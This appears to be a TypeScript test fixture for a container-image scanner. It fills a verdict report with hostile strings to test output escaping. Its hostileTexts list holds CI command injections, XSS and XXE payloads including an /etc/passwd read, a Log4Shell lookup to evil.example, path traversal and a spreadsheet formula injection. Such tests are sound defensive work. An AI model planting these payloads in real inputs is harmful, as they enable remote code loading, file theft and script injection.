/** A Verdict in which every string that an image can choose carries commands for terminals, CI systems, pages and readers. */
import { toPackageUrl } from '../../src/core/package-record.ts';
import { judge } from '../../src/policy/judge.ts';
import { defaultPolicy } from '../../src/policy/default-policy.ts';
import type { Digest } from '../../src/core/digest.ts';
import type { Evidence } from '../../src/core/finding.ts';
import type { Verdict } from '../../src/core/verdict.ts';
import { someDossier, someFinding, someGap, someTime } from './dossier.ts';

export const hostileTexts: readonly string[] = [
  '\u001b[2J\u001b]0;title\u0007\u009b31m',
  '\u202egpj.exe\u2066\u2069\u200b\u00ad\ufeff',
  '::set-output name=x::y',
  '\n::error::x\n##vso[task.setvariable variable=x]y\n##[command]x\n##teamcity[x]',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '[click](javascript:alert(1)) ![x](https://evil.example/x) `code` **bold**',
  ']]><evil/><![CDATA[',
  '<!-- --><?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd">&x;&#0;',
  '\u0000\u0001\u0008\u000b\ufffe\uffff\ud800x\udc00',
  '{0} {1} {{x}} ${jndi:ldap://evil.example/x}',
  '../../../etc/passwd',
  '/absolute//..//%2e%2e/\\..\\x',
  'C:\\x:stream',
  '=cmd|calc!A0',
  '__proto__',
  '𝒳'.repeat(1500),
];

const everything = hostileTexts.join(' ');
const someDigest: Digest = `sha256:${'c'.repeat(64)}`;

export const hostileVerdict = (): Verdict => {
  const texts = [...hostileTexts, everything];
  const proofs = (text: string): readonly [Evidence, ...Evidence[]] => [
    {
      kind: 'excerpt',
      path: text,
      offset: 1,
      length: 2,
      text,
      sha256: text,
      layerIndex: 0,
      layer: text,
      createdBy: text,
      hidden: true,
      launched: true,
      owner: text,
    },
    { kind: 'file', path: text, sha256: text, layer: text, createdBy: text },
    { kind: 'config', field: text, value: text },
    { kind: 'history', field: text, value: text, layerIndex: 1, createdBy: text },
    { kind: 'event', field: text, value: text },
    { kind: 'name', field: text, value: text },
    { kind: 'signature', field: text, value: text },
  ];
  const dossier = someDossier({
    reference: `oci:${everything}`,
    asked: everything,
    platform: everything,
    digest: null,
    identity: { diffIds: [] },
    layers: texts.map((text, index) => ({
      index,
      mediaType: text,
      createdBy: text,
      bytes: 1,
      files: 1,
      recalled: false,
    })),
    findings: texts.map((text) =>
      someFinding({
        rule: `yara/${text}`,
        title: text,
        advice: text,
        techniques: [text],
        evidence: proofs(text),
        more: 1,
      }),
    ),
    gaps: texts.map((text) => someGap({ where: text, code: text, reason: text, executable: true })),
    attestations: texts.map((text) => ({
      verifier: text,
      signer: text,
      kind: 'signature',
      digest: someDigest,
      outcome: 'untrusted',
      code: 'other-signer',
      identity: text,
      signedAt: text,
      expires: text,
      reason: text,
      facts: { [text]: text, predicateType: text },
      trace: [{ lookedFor: text, result: 'refused', detail: text }],
    })),
    trust: {
      asked: true,
      outcome: 'untrusted',
      code: everything,
      rule: everything,
      by: texts,
      reason: everything,
      signers: texts.map((text) => ({
        signer: text,
        outcome: 'untrusted',
        code: 'absent',
        reason: text,
        identity: text,
      })),
      configuration: { name: everything, version: everything },
    },
    history: {
      firstSeen: everything,
      seenBefore: true,
      since: everything,
      loggedAt: everything,
      tagMoved: true,
      tagBefore: someDigest,
      tagMovedAt: everything,
      signersBefore: texts,
      signatureLost: true,
      signerChanged: true,
      elsewhere: texts.map((text) => ({ repository: text, digest: someDigest })),
    },
    story: texts,
    packages: texts.map((text) => ({
      name: text,
      version: text,
      ecosystem: 'npm',
      purl: toPackageUrl('npm', { name: text, version: text }),
    })),
    rules: { version: everything, counts: Object.fromEntries(texts.map((text) => [text, 1])) },
  });
  const verdict = judge(defaultPolicy, dossier, someTime);
  return {
    ...verdict,
    because: [everything, ...texts],
    excepted: [
      { kind: 'finding', position: 0, reason: everything, expires: '2027-01-01' },
      { kind: 'gap', position: 1, reason: everything, expires: '2027-01-01' },
    ],
  };
};
